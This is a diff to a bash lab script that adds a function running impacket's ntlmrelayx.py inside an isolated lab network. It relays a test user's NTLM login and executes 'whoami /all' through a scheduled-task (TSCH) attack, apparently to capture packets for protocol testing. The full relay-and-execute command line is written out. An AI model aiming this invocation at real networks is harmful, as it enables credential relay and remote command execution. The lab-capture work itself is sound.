@@ -133,6 +133,59 @@ imp013_ensure() {
 	echo "impacket $IMP013_VERSION in $IMP013 (from ${IMP013_FROM:-the package registry})" >&2
 }
 
+# relay013 NAME: 0.13.1's examples/ntlmrelayx.py, unmodified, in the client namespace (SMB server on
+# 10.77.0.1:445, every other relay server off) relays a victim's NTLM login to the lab's SMB server and runs its
+# TSCH attack (--rpc-attack TSCH: register, run, poll, delete over \pipe\atsvc, no RPC auth). The victim is
+# Samba's smbclient logging in to the relay as LAB\alice; that login stays inside the client namespace, so the
+# capture (on the server's veth) holds only what the relay sends the lab.
+relay013() {
+	local name=$1
+	imp013_ensure
+	apt_ensure smbclient
+	"$PY" - "$WORK/client.json" "$IMP013/bin/ntlmrelayx.py" <<-'EOF'
+	import json, sys, hashlib
+	json.dump({"tool": "impacket 0.13.1 examples/ntlmrelayx.py (virtualenv, unmodified, run as a program); victim: "
+	                   "Samba smbclient logging in to the relay as LAB\\alice",
+	           "ntlmrelayx_sha256": hashlib.sha256(open(sys.argv[2], "rb").read()).hexdigest(),
+	           "argv": ["ntlmrelayx.py", "-t", "smb://10.77.0.2", "-smb2support", "--rpc-attack", "TSCH", "-c",
+	                    "whoami /all", "-ip", "10.77.0.1", "--no-multirelay", "(every relay server but SMB off)"],
+	           "auth_level": 1, "transport": "ncacn_np:\\pipe\\atsvc", "interface": "ITaskSchedulerService",
+	           "user": "alice", "domain": "LAB", "operator_command": "whoami /all",
+	           "expect_command": "cmd.exe", "expect_arguments": "/C whoami /all",
+	           "op_sequence": ["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"]},
+	          open(sys.argv[1], "w"))
+	EOF
+	CLIENT_IS_JSON=0 capture "$name" '{"rpc_auth": "none (auth_level 1): the relayed NTLM login is the SMB session setup; the bind has no sec_trailer"}' \
+		bash -c '
+		py=$1 relay=$2 target=$3 ip=$4 who=$5 log=$6
+		# ntlmrelayx reads console commands from stdin and ends at its EOF: give it one that never ends.
+		mkfifo "$log.in" && exec 3<>"$log.in"
+		"$py" "$relay" -t "smb://$target" -smb2support --rpc-attack TSCH -c "whoami /all" -ip "$ip" --no-multirelay \
+			--no-http-server --no-wcf-server --no-raw-server --no-rpc-server --no-winrm-server --no-mssql-server \
+			--no-rdp-server <&3 >"$log" 2>&1 &
+		pid=$!
+		for _ in $(seq 100); do grep -q "Servers started" "$log" && break; sleep 0.1; done
+		smbclient "//$ip/share" -U "$who" --use-kerberos=off -c ls >/dev/null 2>&1 || true
+		for _ in $(seq 150); do grep -q "Completed!" "$log" && break; sleep 0.1; done
+		kill "$pid"; wait "$pid"
+		cat "$log"
+		grep -q "Completed!" "$log"' _ "$IMP013/bin/python" "$IMP013/bin/ntlmrelayx.py" "$IP_S" "$IP_C" \
+		"$DOMAIN/$USER_%$PASSWORD" "$WORK/relay.log"
+	"$PY" - "$OUT/$name.json" "$WORK/client.out" <<-'EOF'
+	import json, sys
+	f = json.load(open(sys.argv[1]))
+	f["client"]["client_printed_output"] = open(sys.argv[2]).read()
+	reg = next(x for x in f["calls"] if x["op"] == "SchRpcRegisterTask")
+	c = f["client"]
+	if (reg["command"], reg["arguments"]) != (c["expect_command"], c["expect_arguments"]):
+	    f["problems"].append("server decoded %r %r" % (reg["command"], reg["arguments"]))
+	json.dump(f, open(sys.argv[1], "w"), indent=2, sort_keys=True)
+	open(sys.argv[1], "a").write("\n")
+	if f["problems"]:
+	    sys.exit("\n".join(f["problems"]))
+	EOF
+}
+
 atexec013() { # atexec013 NAME [ATEXEC OPTIONS...]: impacket 0.13.1's atexec.py, unmodified, run as a program
 	local name=$1; shift
 	imp013_ensure
@@ -227,6 +280,7 @@ main() {
 		imp013_ensure
 		PY_CLIENT="$IMP013/bin/python" ATEXEC_ARG="$IMP013/bin/atexec.py" client_capture impacket013-atexec-smb1 atexec-smb1 '{"rpc_auth": "NTLMSSP, auth_level 6 (packet privacy): stubs sealed", "smb_rpc_commands": "Write AndX / Read AndX"}'
 	fi
+	if want impacket013-ntlmrelayx-tsch-smb2 ; then relay013 impacket013-ntlmrelayx-tsch-smb2; fi
 	du -ch "$OUT"/*.pcap | tail -1
 }
 
